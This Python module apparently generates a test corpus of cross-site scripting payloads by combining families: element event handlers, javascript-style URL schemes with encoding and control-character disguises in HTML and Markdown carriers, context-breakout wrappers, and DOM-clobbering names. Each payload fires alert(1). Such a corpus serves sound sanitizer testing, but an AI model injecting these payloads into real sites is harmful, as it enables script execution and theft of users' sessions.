"""Thousands of texts that want to run something in a reader's browser, made of families multiplied with each other.

Made here rather than copied: the families are how such attacks work (an element, what runs it, how a scheme is written,
where the text breaks out of its place, what Markdown makes of it), so that each new word multiplies too.
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from itertools import product

RUN = "alert(1)"
ELEMENTS = (
    "a area article audio b base bgsound body br button canvas details dialog div embed fieldset font form frame "
    "frameset h1 head html iframe img image input isindex keygen li link marquee math meta meter object option p param "
    "picture portal progress s script section select slot source span style summary svg table td template textarea "
    "title track u ul video x-own xmp"
).split()
HANDLERS = "onload onerror onclick onfocus ontoggle onpointerenter onanimationend onbegin".split()
BETWEEN = ["<{tag} {on}={run}>", '<{tag}/{on}="{run}"/x>', "<{tag}\t{on}\n=\n'{run}' autofocus>x</{tag}>"]

SCHEMES = (
    "javascript vbscript data:text/html,<script> livescript file blob feed:javascript jar view-source intent".split()
)
DISGUISES = {
    "plain": lambda scheme: scheme + ":",
    "mixed": lambda scheme: "".join(c.upper() if i % 2 else c for i, c in enumerate(scheme)) + ":",
    "tab": lambda scheme: scheme[:4] + "\t" + scheme[4:] + ":",
    "line": lambda scheme: scheme[:4] + "\r\n" + scheme[4:] + ":",
    "control": lambda scheme: "\x01\x1f " + scheme + ":",
    "null": lambda scheme: scheme[:2] + "\x00" + scheme[2:] + ":",
    "decimal": lambda scheme: "".join(f"&#{ord(c)};" for c in scheme) + ":",
    "long decimal": lambda scheme: "".join(f"&#{ord(c):07}" for c in scheme) + "&#0000058",
    "hexadecimal": lambda scheme: "".join(f"&#x{ord(c):x};" for c in scheme) + "&#x3a;",
    "named": lambda scheme: scheme[:3] + "&Tab;" + scheme[3:] + "&colon;",
    "bare entity": lambda scheme: scheme + "&#58",
    "percent": lambda scheme: scheme[:-1] + f"%{ord(scheme[-1]):x}" + ":",
    "wide": lambda scheme: scheme + "\uff1a",
    "backslash": lambda scheme: scheme + "\\:",
}
CARRIERS = [
    '<a href="{}">x</a>', "<a href={}>x</a>", '<a xlink:href="{}">x</a>', '<area href="{}">', '<base href="{}">',
    '<form action="{}"><button>x</button></form>', '<button formaction="{}">x</button>', '<iframe src="{}"></iframe>',
    '<object data="{}"></object>', '<embed src="{}">', '<img src="{}" srcset="{}">', '<input type=image src="{}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>', '<math href="{}">x</math>', '<link rel=import href="{}">',
    '<meta http-equiv=refresh content="0;url={}">', '<video poster="{}"></video>',
    '<p style="background:url({})">x</p>',
    '<blockquote cite="{}">x</blockquote>', '<q cite="{}">x</q>', '<table background="{}"><td>x</table>',
    '<svg><set attributeName=href to="{}" /></svg>', '<svg><use href="{}" /></svg>', "[x]({})", "[x](<{}>)", "<{}>",
    "![x]({})", "[x][r]\n\n[r]: {}", "[![x]({})]({})", '[x](/ "{}")',
]  # fmt: skip

INSIDE = [
    "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg onload=alert(1)>", '"><svg/onload=alert(1)>',
    "' onmouseover=alert(1) '", "<a href=javascript:alert(1)>x</a>", "<style>*{background:url(//a.example)}</style>",
]  # fmt: skip
AROUND = [
    "<textarea>{}</textarea>", "<title>{}</title>", "<style>{}</style>", "<noscript>{}</noscript>", "<xmp>{}</xmp>",
    "<noembed>{}</noembed>", "<noframes>{}</noframes>", "<iframe>{}</iframe>", "<template>{}</template>",
    "<plaintext>{}", "<!--{}-->", "<!-->{}-->", "<!--{}--!>", "<![CDATA[{}]]>", "<?x {}?>", "<!x {}>", "</ {}>",
    "<select><option>{}</select>", "<svg><style>{}</style></svg>", "<svg><title>{}</title></svg>",
    "<svg><desc>{}</desc></svg>", "<svg><foreignObject>{}</foreignObject></svg>", "<math><mtext>{}</mtext></math>",
    "<math><mtext><table><mglyph><style>{}</style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding=text/html>{}</annotation-xml></math>", "<form><math><mtext></form><form>{}",
    '<noscript><p title="</noscript>{}">', '<a title="{}">x</a>', "<a title='{}'>x</a>", "<a title=`{}`>x</a>",
    '<p id="{}">', "<ol start='{}'>", '<th scope="{}">', '<p lang="{}">', "<table><td>{}<td>", "<b><p>{}</b></p>",
    "<<{}>>", "<scr<script>ipt>{}</scr</script>ipt>", "<details><summary>{}</summary></details>", "`{}", "`\n{}`",
    "```{}\nx\n```", "~~~\n{}", "    {}", "> {}", "- {}\n  - {}", "# {}", "{}\n===",
    "| {} | b |\n|---|---|\n| {} | b |",
    "[{}](https://a.example)", '[x](https://a.example "{}")', "[x](https://a.example/{})", "<https://a.example/{}>",
    "https://a.example/{}", "![{}](https://a.example/a.png)", "[x][r]\n\n[r]: https://a.example '{}'",
    "x[^1]\n\n[^1]: {}",
    "x[^{}]\n\n[^{}]: x", "::: spoiler {}\n{}\n:::", "**{}**", "@{}", "\\{}", "&lt;{}&gt;", "a@{}.example",
    "\u2028{}\u2029",
]  # fmt: skip

NAMES = "csrfmiddlewaretoken main content forms body cookie location top self parent attributes".split()
CLOBBERS = [
    "<a id={} name={}>x</a>",
    "<p id={}>x</p>",
    "<form name={}><input name={}></form>",
    "<img name={}>",
    "# {} {{#{}}}",
]


def _fill(frame: str, words: str) -> str:
    return frame.replace("{}", words)


def handlers() -> Iterator[str]:
    """Elements that run something by themselves."""
    for tag, on, frame in product(ELEMENTS, HANDLERS, BETWEEN):
        yield frame.format(tag=tag, on=on, run=RUN)


def addresses() -> Iterator[str]:
    """Schemes that run something, each disguise in each place where an address can stand."""
    for scheme, disguise, frame in product(SCHEMES, DISGUISES.values(), CARRIERS):
        name, _, rest = scheme.partition(":")
        yield _fill(frame, disguise(name) + rest + RUN)


def breakouts() -> Iterator[str]:
    """Texts that leave the place they were put into, plain and escaped once too often."""
    for words, frame in product(INSIDE, AROUND):
        yield _fill(frame, words)
        yield _fill(frame, html.escape(words))


def clobbers() -> Iterator[str]:
    """Names that our own pages rely on."""
    for name, frame in product(NAMES, CLOBBERS):
        yield _fill(frame, name)


def every_payload() -> list[str]:
    """All of them, always in the same order."""
    return [*handlers(), *addresses(), *breakouts(), *clobbers()]
